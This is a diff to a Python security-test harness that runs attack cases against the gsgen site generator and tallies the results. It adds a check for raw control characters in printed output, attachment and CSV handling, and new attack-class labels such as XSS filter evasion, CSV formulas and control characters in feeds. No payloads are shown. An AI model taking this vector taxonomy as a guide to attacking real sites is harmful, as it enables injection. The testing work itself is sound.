         blamed: dict[str, tuple[bool, list[str]]] = {}
-        by_source = {(c.source, c.line): c for c in placed}
+        by_source = {place: c for c in placed for place in c.also} | {(c.source, c.line): c for c in placed}
         by_page = {c.page: c for c in placed if c.page}
         for file, line, said in build.errors(self.work.site):
             case = by_source.get((file, line)) or by_source.get((file, None))
-            clear = case is not None and line > 0
+            # an error at the source's line, or naming the very file that carries the vector (an attachment)
+            clear = case is not None and (line > 0 or (file, None) in case.also)
             case = case or by_page.get(file) or self._theme_case(placed, file, line) or _by_value(said, placed)
             if case is not None:
                 was_clear, lines = blamed.get(case.id, (False, []))
@@ -1294,12 +2516,26 @@ class Settler:
         return blamed
 
     def _owner(self, finding: Finding, placed: list[Case]) -> str | None:
-        case = next((c for c in placed if c.page == finding.file), None)
+        case = next((c for c in placed if c.page == finding.file or owns(c, finding.file)), None)
         case = case or self._theme_case(placed, finding.file, finding.line)
         if case is not None:
             return case.id
         case = _by_value(finding.value, placed, exact=True)
         return case.id if case else None
+
+
+def owns(case: Case, file: str) -> bool:
+    return any(file == o or (o.endswith("/") and file.startswith(o)) for o in case.outputs)
+
+
+def expectations(cases: Iterable[Case]) -> Expect:
+    """What the scanner is told of these cases' sources: held pages, CSV rows and numbers."""
+    cases = list(cases)
+    return Expect(
+        held=frozenset(c.held for c in cases if c.held),
+        csv_rows={o: c.csv_rows for c in cases if c.csv_rows for o in c.outputs if o.endswith(".csv")},
+        csv_numbers={o: c.csv_numbers for c in cases if c.csv_numbers for o in c.outputs if o.endswith(".csv")},
+    )
 
 
 def _by_value(text: str, placed: list[Case], exact: bool = False) -> Case | None:
@@ -1341,12 +2577,35 @@ def _run_job(job: Job) -> dict[str, Outcome]:
     entry, cases, baseline = job
     root = Path(tempfile.mkdtemp(prefix=f"gsgen-attacks-{entry}-"))
     try:
+        if entry == "terminal":
+            return {c.id: printed_outcome(Workspace(root), c) for c in cases}
         settler = Settler(Workspace(root), baseline)
         if entry == "theme":
             _calibrate(settler, cases)
         return settler.settle(cases)
     finally:
         shutil.rmtree(root, ignore_errors=True)
+
+
+def printed_outcome(work: Workspace, case: Case) -> Outcome:
+    """A terminal case, built alone and judged by what gsgen prints: raw control characters in any line
+    are unsafe, whether the build failed or not."""
+    build = work.build(site_files([case])[0])
+    if build.crashed:
+        return Outcome("crash", build.tail)
+    raw = terminal_problems(build.text)
+    if raw:
+        return Outcome("unsafe", raw)
+    if build.code == 0:
+        return Outcome("clean")
+    said = [line for line in build.text.split("\n") if "error[" in line]
+    named = [line for line in said if _printable(case.source) in _printable(line) or (case.value or "\0") in line]
+    return Outcome("refused", named) if named else Outcome("unclear", said or build.tail)
+
+
+def _printable(text: str) -> str:
+    """A file name as it may be printed escaped: control characters and their escapes dropped."""
+    return re.sub(r"\\(?:[abefnrtv]|x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4})|[\x00-\x1f\x7f-\x9f]|\\", "", text)
 
 
 def _calibrate(settler: Settler, cases: list[Case]) -> None:
@@ -1434,14 +2693,22 @@ CLASS_LABELS = {
     "xss": "(a) XSS filter evasion",
     "url": "(b) URL parser tricks",
     "style": "(c) hiding/overlay/loading CSS",
+    # issue 28
+    "attach": "(d) active content in attachments",
+    "csv": "(e) formulas in CSV downloads",
+    "xml": "(f) control characters in feeds",
+    "future": "(g) items dated after now",
+    "darklink": "(h) hidden links, site theme",
+    "terminal": "(i) control characters printed",
 }
 
 
 def table(outcomes: dict[str, Outcome]) -> str:
     cases = [c for c in all_cases() if c.id in outcomes]
-    rows: list[tuple[str, list[Case]]] = [(CLASS_LABELS[k], [c for c in cases if c.vector.cls == k]) for k in CLASSES]
+    rows = [(label, [c for c in cases if c.vector.cls == k]) for k, label in CLASS_LABELS.items()]
+    rows = [(label, group) for label, group in rows if group]
     rows.append(("total", cases))
-    rows += [(f"  entry: {e}", [c for c in cases if c.entry == e]) for e in ENTRIES]
+    rows += [(f"  entry: {e}", group) for e in ENTRIES if (group := [c for c in cases if c.entry == e])]
     heads = ("tried", "refused", "unclear", "clean", "UNSAFE", "CRASH")
     lines = [f"{'':32}" + "".join(f"{h:>9}" for h in heads)]
     for label, group in rows:
@@ -1473,13 +2740,14 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--table", action="store_true", help="run every case and print the summary table")
     parser.add_argument("--details", action="store_true", help="also list each crashing, unsafe or unclear case")
     parser.add_argument("--entry", action="append", choices=list(ENTRIES), help="only these entry points")
+    parser.add_argument("--new", action="store_true", help="only the entry points of issue 28 (attachments, …)")
     parser.add_argument("--workers", type=int, default=0, help="processes (default: one per core)")
     args = parser.parse_args(argv)
     if not (args.table or args.details):
         parser.print_help()
         return 2
     started = time.monotonic()
-    outcomes = run_entries(args.entry or list(ENTRIES), args.workers)
+    outcomes = run_entries(args.entry or (list(NEW_ENTRIES) if args.new else list(ENTRIES)), args.workers)
     print(table(outcomes))
     print(f"\n{len(VECTORS)} vectors, {len(outcomes)} cases, {time.monotonic() - started:.1f} s")
     base = dict.fromkeys(f.message for f in baseline_findings())
